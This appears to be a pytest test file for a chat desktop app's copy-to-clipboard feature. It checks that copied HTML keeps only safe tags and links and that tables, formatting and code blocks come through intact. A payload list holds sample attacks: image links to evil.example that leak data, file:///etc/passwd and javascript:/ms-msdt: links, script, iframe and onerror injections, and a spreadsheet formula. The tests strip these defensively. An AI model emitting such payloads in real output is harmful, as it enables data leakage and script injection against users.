"""What a copy carries to another program: words, their marks, tables as tables, and nothing that loads or runs."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PySide6.QtCore import QMimeData

from ice_desk.domain.chats import MessageState
from ice_desk.ui.chat.body import DocumentCache, LiveBody
from ice_desk.ui.chat.conversation import Entry, EntryKind
from ice_desk.ui.chat.copying import act_data, marked_data
from ice_desk.ui.chat.document import text_style
from ice_desk.ui.chat.selection import END, Selection, whole
from ice_desk.ui.theme import DARK

pytestmark = pytest.mark.usefixtures("qapp")
TAGS = {
    *("html", "head", "meta", "body", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "table"),
    *("tr", "th", "td", "pre", "code", "strong", "em", "s", "a", "blockquote"),
}
VOID = {"meta", "br", "hr"}
PAYLOADS = (
    "![a](http://evil.example/leak?d=1)",
    "![](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![][r]\n\n[r]: http://evil.example/x",
    "<img src='http://evil.example/x'>",
    "<b style='background:url(http://evil.example)'>x</b>",
    "<script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "[l](javascript:alert(1)) [m](file:///etc/passwd) [s](smb://h/x) [d](data:text/html,x) [q](ms-msdt:/id)",
    "[ok](https://a.example/?q=\"><img src=x>&b=1)",
    "<https://a.example/x> and <a@b.example>",
    "| a |\n|---|\n| ![x](http://evil.example/y) <img src=z> |\n| [j](javascript:1) |",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "> ![x](//h/s/a.png)\n> ```\n> <img>\n> ```",
    "- ![x](http://evil.example)\n- <img>\n",
    "a\u202eb\x00 \ufffc <span style='display:none'>hidden</span>",
    "[https://bank.example](http://evil.example/)",
)  # fmt: skip


class Reader(HTMLParser):
    """Takes HTML apart as another program would, and finds fault with it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data


def body_of(text: str, kind: EntryKind = EntryKind.ANSWER) -> LiveBody:
    return LiveBody(Entry(kind, [text], MessageState.COMPLETE), text_style(DARK), 600, DocumentCache())


def copied(text: str) -> QMimeData:
    body = body_of(text)
    return marked_data(whole(1, body), body)


def check(data: QMimeData) -> Reader:
    read = Reader(data.html())
    assert {tag for tag, _ in read.tags} <= TAGS
    for tag, attributes in read.tags:
        allowed = {"a": {"href"}, "meta": {"charset"}, "table": {"border", "cellspacing", "cellpadding"}}
        assert set(attributes) <= allowed.get(tag, {"align"})
        if tag == "a":
            assert re.match("(?:https?://|mailto:)", attributes["href"] or "")
    return read


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_payload_leaves_with_a_copy(text: str) -> None:
    check(copied(text))


MORE = ("# h", "- a\n  - b", "1. x\n\n   y", "**b", "* * *", "|", "`", "> ")


@given(parts=st.lists(st.sampled_from((*PAYLOADS, *MORE)), max_size=5))
@settings(max_examples=30, deadline=None)
def test_no_mixture_breaks_what_is_copied(parts: list[str]) -> None:
    check(copied("\n".join(parts)))


def test_marks_lists_and_links_stay() -> None:
    text = (
        "# Head\n\nA **bold** *word* ~~out~~ `x<1` [l](https://a.example/b?c=1&d=2).\n\n"
        "- one\n  1. two\n- [x] three\n\n> said"
    )
    html = copied(text).html()
    for part in (
        "<h1>Head</h1>",
        "<strong>bold</strong> <em>word</em> <s>out</s> <code>x&lt;1</code>",
        '<a href="https://a.example/b?c=1&amp;d=2">l</a>',
        "<ul><li>one<ol><li>two</li></ol></li><li>☑ three</li></ul>",
        "<blockquote><p>said</p></blockquote>",
    ):
        assert part in html


def test_a_table_is_a_table_for_a_spreadsheet_and_for_a_word_processor() -> None:
    text = "| Node | Share |\n|---|---|\n| A **b** | 78 % |\n| =1+1 | -5 |"
    for data in (copied(text), act_data("table:0", text, body_of(text))):
        assert data.text() == "Node\tShare\nA b\t78 %\n'=1+1\t-5"
        assert (
            "<tr><th>Node</th><th>Share</th></tr>"
            '<tr><td>A b</td><td align="right">78 %</td></tr>'
            '<tr><td>&#x27;=1+1</td><td align="right">-5</td></tr></table>'
        ) in data.html()


def test_a_part_of_a_table_takes_its_rows_and_one_cell_is_words() -> None:
    body = body_of("| a | b |\n|---|---|\n| one | two |\n| three | four |")
    document = body.document(0)
    inside = document.find("two").selectionStart()
    assert marked_data(Selection(1, (0, inside), (0, inside + 2)), body).text() == "tw"
    assert marked_data(Selection(1, (0, inside), (0, END)), body).text() == "\ttwo\nthree\tfour"


def test_code_in_pieces_is_one_again() -> None:
    code = "\n".join(f"line {number} <b>" for number in range(120))
    data = copied(f"a\n\n```py\n{code}\n```\n\nb")
    assert data.text() == f"a\n\n{code}\n\nb"
    assert data.html().count("<pre>") == 1
    assert check(data).words == f"a{code}b"


@pytest.mark.parametrize("size", [0, 3])
def test_a_marked_stretch_begins_and_ends_where_it_was_marked(size: int) -> None:
    body = body_of("A 👩 **bold** end\n\nnext")
    data = marked_data(Selection(1, (0, 5), (1, 2 + size - 3 if size else 2)), body)
    assert data.text() == "bold end\n\nne"
    assert "<strong>bold</strong> end</p><p>ne</p>" in data.html()


def test_a_prompt_is_copied_as_it_was_written() -> None:
    body = body_of("a <b>\n- c", EntryKind.PROMPT)
    data = marked_data(whole(1, body), body)
    assert data.text() == "a <b>\n- c"
    assert "<p>a &lt;b&gt;<br>- c</p>" in data.html()
